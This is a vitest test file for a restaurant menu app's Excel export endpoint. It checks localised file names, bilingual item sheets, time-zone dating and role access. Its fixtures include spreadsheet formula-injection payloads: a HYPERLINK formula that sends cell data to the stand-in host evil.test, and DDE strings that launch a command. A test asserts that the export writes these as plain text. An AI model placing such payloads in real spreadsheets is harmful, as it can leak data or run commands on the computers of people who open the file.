import { fileNameOfDisposition, toIsoDate, type Menu, type Section } from '@app/domain';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { optionGroups, optionValues, restaurants } from '../../src/db/schema/index.ts';
import { createUserFixture } from '../helpers/fixtures.ts';
import { signIn, type SignedIn } from '../helpers/sign-in.ts';
import { buildTestApp, type TestApp } from '../helpers/test-app.ts';
import { call, emptyLocation, type Locale } from '../helpers/menu-api.ts';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const INJECTED = '=HYPERLINK("http://evil.test/?x="&A1,"Click me")';

async function readWorkbook(body: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ArrayBuffer);
  return workbook;
}

/** Each row of a sheet as values by header (row 1). */
function rowsOf(sheet: ExcelJS.Worksheet): Record<string, ExcelJS.CellValue>[] {
  const headers = (sheet.getRow(1).values as ExcelJS.CellValue[]).slice(1).map(String);
  const rows: Record<string, ExcelJS.CellValue>[] = [];
  sheet.eachRow((row, number) => {
    if (number === 1) return;
    rows.push(
      Object.fromEntries(headers.map((header, index) => [header, row.getCell(index + 1).value])),
    );
  });
  return rows;
}

describe('GET /api/menus/{id}/export', () => {
  let t: TestApp;
  let manager: SignedIn;
  let locationId: number;
  let menuId: number;

  const exportMenu = (user: SignedIn, id: number, locale: Locale = 'en-CA', tenant?: number) =>
    t.app.inject({
      method: 'GET',
      url: `/api/menus/${id}/export`,
      headers: { ...user.headers(tenant), 'accept-language': locale },
    });

  beforeAll(async () => {
    t = await buildTestApp();
    ({ user: manager, locationId } = await emptyLocation(t));
    const menu = (
      await call(t, manager, 'POST', '/api/menus', {
        body: { name: "Lunch/Dinner: l'été", localization: { fr: { name: 'Dîner : l’été*' } } },
      })
    ).json<Menu>();
    menuId = menu.id;
    const section = (
      await call(t, manager, 'POST', `/api/menus/${menuId}/sections`, {
        body: { name: 'Mains', localization: { fr: { name: 'Plats principaux' } } },
      })
    ).json<Section>();
    const [group] = await t.database.db
      .insert(optionGroups)
      .values({
        restaurant_id: locationId,
        name: 'Toppings',
        localization: { fr: { name: 'Garnitures' } },
      })
      .returning({ id: optionGroups.id });
    await t.database.db.insert(optionValues).values({
      restaurant_id: locationId,
      option_group_id: group!.id,
      name: 'Bacon',
      price: 1.5,
      localization: { fr: { name: 'Bacon fumé' } },
    });
    const created = await call(
      t,
      manager,
      'POST',
      `/api/menus/${menuId}/sections/${section.id}/items`,
      {
        body: {
          name: 'Poutine',
          description: '<p>Fries &amp; <strong>curds</strong></p>',
          localization: {
            fr: { name: 'Poutine québécoise', description: '<p>Frites et fromage en grains</p>' },
          },
          base_price: '9.5',
          price_options: [{ name: 'Large', price: 12, localization: { fr: { name: 'Grande' } } }],
          calories: 740,
          allergens: ['Dairy'],
          diets: ['Vegetarian'],
          published: true,
          options: [group!.id],
        },
      },
    );
    expect(created.statusCode, created.body).toBe(201);
    for (const name of [INJECTED, '+cmd|" /C calc"!A0', '@SUM(1+1)*cmd|" /C calc"!A0']) {
      const res = await call(t, manager, 'POST', `/api/menus/${menuId}/items`, {
        body: { name, description: '-2+3+cmd|" /C calc"!A0' },
      });
      expect(res.statusCode, res.body).toBe(201);
    }
  });
  afterAll(() => t.close());

  it('answers an .xlsx download named Menu-{menuName}-{date}.xlsx, safe on every system', async () => {
    const res = await exportMenu(manager, menuId, 'fr-CA');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe(XLSX);
    const disposition = String(res.headers['content-disposition']);
    expect(disposition).toMatch(/^attachment; filename="[\x20-\x7e]+"; filename\*=UTF-8''/);
    const today = toIsoDate(new Date(), 'America/Toronto');
    // The French name in French, without the characters Windows refuses (: and *).
    expect(fileNameOfDisposition(disposition)).toBe(`Menu-Dîner l’été-${today}.xlsx`);
    const english = await exportMenu(manager, menuId, 'en-CA');
    expect(fileNameOfDisposition(String(english.headers['content-disposition']))).toBe(
      `Menu-LunchDinner l'été-${today}.xlsx`,
    );
  });

  it('holds the items in the caller’s language with both languages’ texts and prices as numbers', async () => {
    const workbook = await readWorkbook((await exportMenu(manager, menuId, 'fr-CA')).rawPayload);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Articles', 'Suppléments']);
    const items = workbook.getWorksheet('Articles')!;
    expect((items.getRow(1).values as unknown[]).slice(1, 7)).toEqual([
      'Section (anglais)',
      'Section (français)',
      'Article (anglais)',
      'Article (français)',
      'Description (anglais)',
      'Description (français)',
    ]);
    const poutine = rowsOf(items).find((row) => row['Article (anglais)'] === 'Poutine')!;
    expect(poutine).toMatchObject({
      'Section (anglais)': 'Mains',
      'Section (français)': 'Plats principaux',
      'Article (français)': 'Poutine québécoise',
      'Description (anglais)': 'Fries & curds',
      'Description (français)': 'Frites et fromage en grains',
      Prix: 9.5,
      'Options de prix (français)': 'Régulier\u00a0: 9,50\u00a0$, Grande\u00a0: 12,00\u00a0$',
      Calories: 740,
      Allergènes: 'Produits laitiers',
      Régimes: 'Végétarien',
      Publié: 'Oui',
      Épuisé: 'Non',
      'Groupes de suppléments': 'Garnitures',
    });
    const priceCell = items.getRow(2).getCell(7);
    expect(priceCell.type).toBe(ExcelJS.ValueType.Number);
    expect(priceCell.numFmt).toContain('$');

    const modifiers = rowsOf(workbook.getWorksheet('Suppléments')!);
    expect(modifiers).toEqual([
      expect.objectContaining({
        'Groupe de suppléments (anglais)': 'Toppings',
        'Groupe de suppléments (français)': 'Garnitures',
        'Option (français)': 'Bacon fumé',
        Prix: 1.5,
        Articles: 'Poutine québécoise',
      }),
    ]);
  });

  it('writes text that looks like a formula as text, never as a formula', async () => {
    const workbook = await readWorkbook((await exportMenu(manager, menuId)).rawPayload);
    const items = workbook.getWorksheet('Items')!;
    const names = rowsOf(items).map((row) => row['Item (English)']);
    expect(names).toContain(`'${INJECTED}`);
    expect(names).toContain(`'+cmd|" /C calc"!A0`);
    expect(names).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(rowsOf(items).map((row) => row['Description (English)'])).toContain(
      `'-2+3+cmd|" /C calc"!A0`,
    );
    for (const sheet of workbook.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value === 'string') expect(cell.value).not.toMatch(/^[=+\-@\t\r]/);
        }),
      );
    }
  });

  it('dates the file in the location’s time zone', async () => {
    // UTC+14 and UTC−11 are always on different days.
    const dates: string[] = [];
    for (const timezone of ['Pacific/Kiritimati', 'Pacific/Pago_Pago']) {
      await t.database.db
        .update(restaurants)
        .set({ timezone })
        .where(eq(restaurants.id, locationId));
      const before = toIsoDate(new Date(), timezone);
      const res = await exportMenu(manager, menuId);
      const after = toIsoDate(new Date(), timezone);
      const date = /-(\d{4}-\d{2}-\d{2})\.xlsx$/.exec(
        fileNameOfDisposition(String(res.headers['content-disposition']))!,
      )![1]!;
      expect([before, after]).toContain(date);
      dates.push(date);
    }
    expect(dates[0]).not.toBe(dates[1]);
    await t.database.db
      .update(restaurants)
      .set({ timezone: 'America/Toronto' })
      .where(eq(restaurants.id, locationId));
  });

  it('lets members export and refuses staff', async () => {
    const member = await createUserFixture(t.database.db, {
      role: 'member',
      locations: [locationId],
    });
    const staff = await createUserFixture(t.database.db, {
      role: 'staff',
      locations: [locationId],
    });
    expect(
      (await exportMenu(await signIn(t, member.email, member.password), menuId)).statusCode,
    ).toBe(200);
    const refused = await exportMenu(await signIn(t, staff.email, staff.password), menuId, 'fr-CA');
    expect(refused.statusCode).toBe(403);
    expect(refused.json()).toMatchObject({ code: 'forbidden_role' });
  });

  it('answers 404 for another location’s menu and for a menu that does not exist', async () => {
    const other = await emptyLocation(t);
    const res = await exportMenu(other.user, menuId, 'fr-CA');
    expect(res.statusCode).toBe(404);
    expect(res.headers['content-disposition']).toBeUndefined();
    expect(res.json()).toMatchObject({ code: 'not_found' });
    expect((await exportMenu(manager, 2_000_000_000)).statusCode).toBe(404);
    expect((await exportMenu(manager, 0)).statusCode).toBe(400);
  });
});
